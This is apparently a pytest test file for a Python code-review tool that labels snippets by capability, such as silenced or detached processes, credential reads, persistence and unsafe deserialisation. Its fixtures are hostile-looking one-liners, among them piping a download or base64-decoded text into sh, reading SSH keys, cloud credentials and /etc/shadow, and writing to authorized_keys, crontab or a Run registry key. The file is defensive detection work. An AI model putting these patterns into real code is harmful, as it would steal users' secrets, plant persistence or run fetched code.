"""Facts say how a capability is used, and where it stands."""
# ruff: noqa: E501 - one line a case

from __future__ import annotations

import pytest

from tests.review.capabilities.python.facts_of import facts, has, told

POPEN = "process | subprocess.Popen"
SYSTEM = "process | os.system"

MARKED = [
    ("import subprocess as s\ns.Popen('id', shell=True)", POPEN + " | shell"),
    ("import subprocess as s\ns.Popen(['sh', '-c', 'id'])", POPEN + " | shell"),
    ("import subprocess as s\ns.Popen(['/bin/bash', '-c', 'id'])", POPEN + " | shell"),
    ("import subprocess as s\ns.Popen(['powershell', '-enc', x])", POPEN + " | shell"),
    ("import subprocess as s\ns.Popen(['cmd', '/c', 'dir'])", POPEN + " | shell"),
    ("import subprocess as s\ns.getoutput('id')", "process | subprocess.getoutput | shell"),
    ("import os\nos.popen('id').read()", "process | os.popen | shell"),
    ("import subprocess as s\ns.Popen(['x'], stdout=s.DEVNULL, stderr=s.DEVNULL)", POPEN + " | silenced"),
    ("import subprocess as s, os\nn = open(os.devnull, 'w')\ns.Popen(['x'], stdout=n, stderr=n)", POPEN + " | silenced"),
    ("import subprocess as s, os\nwith open('/dev/null', 'w') as n:\n    s.Popen(['x'], stdout=n)", POPEN + " | silenced"),
    ("import subprocess as s\ns.Popen(['x'], creationflags=s.CREATE_NO_WINDOW)", POPEN + " | silenced"),
    ("import subprocess as s\ns.Popen(['x'], creationflags=0x08000000)", POPEN + " | silenced"),
    ("import subprocess as s\ni = s.STARTUPINFO()\ni.wShowWindow = 0\ns.Popen(['x'], startupinfo=i)", POPEN + " | silenced"),
    ("import os\nos.system('x > /dev/null 2>&1')", SYSTEM + " | silenced"),
    ("import subprocess as s\ns.Popen(['x'], start_new_session=True)", POPEN + " | detached"),
    ("import subprocess as s, os\ns.Popen(['x'], preexec_fn=os.setsid)", POPEN + " | detached"),
    ("import subprocess as s\ns.Popen(['x'], creationflags=s.DETACHED_PROCESS | s.CREATE_NEW_PROCESS_GROUP)", POPEN + " | detached"),
    ("import os\nos.system('nohup x')", SYSTEM + " | detached"),
    ("import os\nos.system('x &')", SYSTEM + " | detached"),
    ("import os\ndef f():\n    if os.fork() == 0:\n        os.setsid()\n        os.fork()", "process | os.fork | detached"),
    ("import subprocess as s\nkw = dict(stdout=s.DEVNULL, start_new_session=True)\ns.Popen(['x'], **kw)", POPEN + " | silenced+detached"),
    ("import requests\nrequests.get('https://a.example', verify=False)", "network | requests.get | insecure"),
    ("import ssl, urllib.request as u\nu.urlopen('https://a.example', context=ssl._create_unverified_context())", "network | urllib.request.urlopen | insecure"),
    ("import os\nos.system('curl -k https://a.example')", SYSTEM + " | insecure"),
    ("import os\nos.system('curl -sSLk https://a.example -o x')", SYSTEM + " | insecure"),
    ("import os\nos.system('wget --no-check-certificate https://a.example')", SYSTEM + " | insecure"),
    ("import os\nos.system('curl https://a.example | sh')", SYSTEM + " | fetched"),
    ("import os\nos.system('curl https://a.example | sh')", "network | os.system"),
    ("import os\nos.system('echo aWQ= | base64 -d | sh')", SYSTEM + " | decoded"),
    ("import os\nos.system('chmod +x /tmp/x && /tmp/x')", SYSTEM + " | made executable+temporary place"),
    ("import subprocess as s\ns.run(['chmod', '755', p])", "process | subprocess.run | made executable"),
    ("import os\nos.chmod(p, 0o755)", "file write | os.chmod | made executable"),
    ("import os, stat\nos.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)", "file write | os.chmod | made executable"),
    ("exec(open('a.conf').read())", "dynamic code | builtins.exec | from a file"),
    ("with open(p) as f:\n    c = compile(f.read(), p, 'exec')\nexec(c)", "dynamic code | builtins.exec | from a file"),
    ("from pathlib import Path\neval(Path(p).read_text())", "dynamic code | builtins.eval | from a file"),
    ("import mmap\nmmap.mmap(-1, 64, prot=mmap.PROT_READ | mmap.PROT_EXEC)", "native code | mmap.mmap | made executable"),
    ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)", "native code | ctypes.windll.kernel32.VirtualAlloc | made executable"),
    ("import ctypes\nctypes.CDLL(None).mprotect(p, n, 7)", "native code | | made executable"),
    ("import sys, os\nif sys.platform == 'linux':\n    os.system('id')", SYSTEM + " | gated"),
    ("import sys, os\nif sys.platform.startswith('win'):\n    pass\nelse:\n    os.system('id')", SYSTEM + " | gated"),
    ("import os\nif os.name == 'nt':\n    os.system('id')", SYSTEM + " | gated"),
    ("import platform, os\nif platform.system() == 'Linux':\n    os.system('id')", SYSTEM + " | gated"),
    ("import platform, os\ns = platform.system().lower()\nif 'linux' in s:\n    os.system('id')", SYSTEM + " | gated"),
    ("import getpass, os\nif getpass.getuser() != 'root':\n    os.system('id')", SYSTEM + " | gated"),
    ("import socket, os\nif socket.gethostname().endswith('x'):\n    os.system('id')", SYSTEM + " | gated"),
    ("import os\nif not os.environ.get('CI'):\n    os.system('id')", SYSTEM + " | gated"),
    ("import os\nif 'CI' not in os.environ:\n    os.system('id')", SYSTEM + " | gated"),
    ("import os\nif os.getenv('GITHUB_ACTIONS'):\n    os.system('id')", SYSTEM + " | gated"),
    ("import os, locale\nif locale.getdefaultlocale()[0] == 'xx':\n    os.system('id')", SYSTEM + " | gated"),
    ("import os, time\nif time.time() > 1800000000:\n    os.system('id')", SYSTEM + " | gated"),
    ("import os, datetime\nif datetime.datetime.now() > datetime.datetime(2030, 1, 1):\n    os.system('id')", SYSTEM + " | gated"),
    ("import os, sys\ndef f():\n    if sys.platform != 'linux':\n        return\n    os.system('id')", SYSTEM + " | gated"),
    ("import os, platform\nplatform.system() == 'Linux' and os.system('id')", SYSTEM + " | gated"),
    ("import os, platform\nos.system('id') if platform.system() == 'Linux' else None", SYSTEM + " | gated"),
    ("import os, platform\nmatch platform.system():\n    case 'Linux':\n        os.system('id')", SYSTEM + " | gated"),
    ("import os\ntry:\n    os.system('id')\nexcept:\n    pass", SYSTEM + " | swallowed"),
    ("import os\ntry:\n    os.system('id')\nexcept Exception:\n    return_ = None\n    pass", SYSTEM),
    ("import os\ndef f():\n    try:\n        os.system('id')\n    except Exception as e:\n        return None", SYSTEM + " | swallowed"),
    ("import os\ntry:\n    os.system('id')\nexcept (ValueError, Exception):\n    ...", SYSTEM + " | swallowed"),
    ("import os, contextlib\nwith contextlib.suppress(Exception):\n    os.system('id')", SYSTEM + " | swallowed"),
    # credentials
    ("open('/home/ada/.ssh/id_rsa').read()", "credentials | builtins.open"),
    ("import os\nopen(os.path.expanduser('~/.aws/credentials'))", "credentials | builtins.open"),
    ("import os\nopen(os.path.join(os.environ['HOME'], '.kube', 'config'))", "credentials | builtins.open"),
    ("import os\nopen(os.path.join(home, '.docker', 'config.json'))", "credentials | builtins.open"),
    ("from pathlib import Path\n(Path.home() / '.netrc').read_text()", "credentials | pathlib.Path.read_text"),
    ("from pathlib import Path\nPath('~/.npmrc').expanduser().read_text()", "credentials | pathlib.Path.read_text"),
    ("from pathlib import Path\nfor p in ('.pypirc', '.git-credentials'):\n    (Path.home() / p).read_bytes()", "credentials | pathlib.Path.read_bytes"),
    ("open('/etc/shadow')", "credentials | builtins.open"),
    ("open('/proc/self/environ')", "credentials | builtins.open"),
    ("open('/var/run/secrets/kubernetes.io/serviceaccount/token')", "credentials | builtins.open"),
    ("open('.env').read()", "credentials | builtins.open"),
    ("import shutil\nshutil.copy('/home/ada/.ssh/id_ed25519', '/tmp/x')", "credentials | shutil.copy"),
    ("import os\nos.listdir(os.path.expanduser('~/.ssh'))", "credentials | os.listdir"),
    ("import glob, os\nglob.glob(os.path.expanduser('~/.ssh/*'))", "credentials | glob.glob"),
    ("import os, sqlite3\nsqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))", "credentials | sqlite3.connect"),
    ("import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')", "credentials | requests.get"),
    ("import os\nos.system('cat ~/.aws/credentials')", "credentials | os.system"),
    ("import keyring\nkeyring.get_password('a', 'b')", "credentials | keyring.get_password"),
    ("import os\nos.environ['AWS_SECRET_ACCESS_KEY']", "credentials | os.environ"),
    ("import os\nos.environ.get('GITHUB_TOKEN')", "credentials | os.environ.get"),
    ("import os\nos.getenv('OPENAI_API_KEY')", "environment | os.getenv"),
    ("import os\ndict(os.environ)", "environment | os.environ | secret"),
    ("import os\nos.environ.items()", "environment | os.environ.items | secret"),
    ("import os, zipfile\nz.write(os.path.expanduser('~/.ssh/id_rsa'))", "credentials | write"),
    ("import http.client\nhttp.client.HTTPConnection('169.254.169.254')", "credentials | http.client.HTTPConnection"),
    ("import os\nx = ' '.join(os.environ)", "environment | os.environ | secret"),
    ("import subprocess\nsubprocess.check_output('env')", "environment | subprocess.check_output | secret"),
    # persistence
    ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", "persistence | builtins.open"),
    ("open('/etc/cron.d/x', 'w').write('x')", "persistence | builtins.open"),
    ("open('/etc/systemd/system/x.service', 'w')", "persistence | builtins.open"),
    ("from pathlib import Path\n(Path.home() / '.config/systemd/user/x.service').write_text('x')", "persistence | pathlib.Path.write_text"),
    ("from pathlib import Path\n(Path.home() / 'Library' / 'LaunchAgents' / 'x.plist').write_text('x')", "persistence | pathlib.Path.write_text"),
    ("import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import x')", "persistence | builtins.open"),
    ("import sysconfig\nopen(sysconfig.get_path('purelib') + '/sitecustomize.py', 'w')", "persistence | builtins.open"),
    ("open('.git/hooks/pre-commit', 'w')", "persistence | builtins.open"),
    ("import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a')", "persistence | builtins.open"),
    ("import os\nos.system('(crontab -l; echo x) | crontab -')", "persistence | os.system"),
    ("import subprocess as s\ns.run(['systemctl', '--user', 'enable', 'x'])", "persistence | subprocess.run"),
    ("import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')", "persistence | winreg.OpenKey"),
    ("import shutil, os\nshutil.copy(x, os.path.expanduser('~/.config/autostart/x.desktop'))", "persistence | shutil.copy"),
    # patching
    ("import requests\nrequests.get = lambda *a: None", "patching | requests.get"),
    ("import requests\ndef f(*a): pass\nrequests.Session.send = f", "patching | requests.Session.send"),
    ("import builtins\nbuiltins.open = f", "patching | builtins.open"),
    ("import socket\nsetattr(socket, 'socket', f)", "patching | socket.socket"),
    ("import socket\nclass S(socket.socket): pass\nsocket.socket = S", "patching | socket.socket"),
    ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context", "patching | ssl._create_default_https_context | insecure"),
    ("import sys\nsys.modules['requests'] = object()", "patching | sys.modules"),
    ("import sys\nsys.meta_path.insert(0, F())", "patching | sys.meta_path"),
    ("import sys\nsys.path_hooks.append(f)", "patching | sys.path_hooks"),
    ("__builtins__['open'] = f", "patching | builtins.open"),
    # what brings objects back
    ("import pickle\npickle.load(f)", "deserialisation | pickle.load"),
    ("import pickle\npickle.Unpickler(f).load()", "deserialisation | pickle.Unpickler"),
    ("import yaml\nyaml.load(f)", "deserialisation | yaml.load"),
    ("import yaml\nyaml.load(f, Loader=yaml.Loader)", "deserialisation | yaml.load"),
    ("import yaml\nyaml.unsafe_load(f)", "deserialisation | yaml.unsafe_load"),
    ("import torch\ntorch.load(f)", "deserialisation | torch.load"),
    ("import joblib\njoblib.load(f)", "deserialisation | joblib.load"),
    ("import shelve\nshelve.open(f)", "deserialisation | shelve.open"),
    ("import numpy as np\nnp.load(f, allow_pickle=True)", "deserialisation | numpy.load"),
    # hosts
    ("import platform\nplatform.node()", "host survey | platform.node"),
    ("import getpass\ngetpass.getuser()", "host survey | getpass.getuser"),
    ("import uuid\nuuid.getnode()", "host survey | uuid.getnode"),
]  # fmt: skip

UNMARKED = [
    ("import subprocess as s\ns.check_output(['git'], stderr=s.DEVNULL)", "process | subprocess.check_output", "silenced"),
    ("import subprocess as s\ns.run(['git'], capture_output=True)", "process | subprocess.run", "silenced"),
    ("import subprocess as s\ns.run(['git', 'a && b'])", "process | subprocess.run", "shell"),
    ("import os\nos.system('a && b')", SYSTEM, "detached"),
    ("import os, time\nt = time.time()\nif time.time() - t > 5:\n    os.system('id')", SYSTEM, "gated"),
    ("import os\nif x:\n    os.system('id')", SYSTEM, "gated"),
    ("import os, sys\nif sys.platform == 'win32':\n    x = 1\nos.system('id')", SYSTEM, "gated"),
    ("import os\ntry:\n    os.system('id')\nexcept OSError:\n    pass", SYSTEM, "swallowed"),
    ("import os\ntry:\n    os.system('id')\nexcept Exception:\n    raise", SYSTEM, "swallowed"),
    ("import os\ntry:\n    os.system('id')\nexcept Exception as e:\n    log(e)", SYSTEM, "swallowed"),
    ("import requests\nrequests.get('https://a.example', verify=True)", "network | requests.get", "insecure"),
    ("import os\nos.chmod(p, 0o644)", "file write | os.chmod", "made executable"),
]  # fmt: skip

ABSENT = [
    ("open('x.txt')", "credentials"),
    ("open('x.pth')", "persistence"),
    ("x = '~/.aws/credentials'", "credentials"),
    ("parser.add_argument('--file', default='~/.netrc')", "credentials"),
    ("import sys\nsys.stdout = f", "patching"),
    ("import sys\nsys.modules[__name__] = X()", "patching"),
    ("import openai\nopenai.api_key = 'x'", "patching"),
    ("import logging\nlogging.raiseExceptions = False", "patching"),
    ("import socket\nsocket.timeout_seconds = 5", "patching"),
    ("from . import util\nutil.get = lambda: 0", "patching"),
    ("self.get = lambda: 0", "patching"),
    ("class A: pass\nA.get = lambda: 0", "patching"),
    ("import os\nos.environ['A'] = 'b'", "environment"),
    ("import yaml\nyaml.load(f, Loader=yaml.CSafeLoader)", "deserialisation"),
    ("import numpy as np\nnp.load(f)", "deserialisation"),
    ("import os\nos.makedirs('x')", "process"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "wanted"), MARKED)
def test_how_a_capability_is_used_is_told(source, wanted):
    found = facts(source)
    assert has(found, wanted), told(found)


@pytest.mark.parametrize(("source", "wanted", "without"), UNMARKED)
def test_what_is_not_remarkable_is_not_marked(source, wanted, without):
    found = facts(source)
    assert has(found, wanted), told(found)
    assert not has(found, f"{wanted} | {without}"), told(found)


@pytest.mark.parametrize(("source", "capability"), ABSENT)
def test_what_is_no_use_of_a_capability_is_not_told(source, capability):
    found = facts(source)
    assert not has(found, capability), told(found)
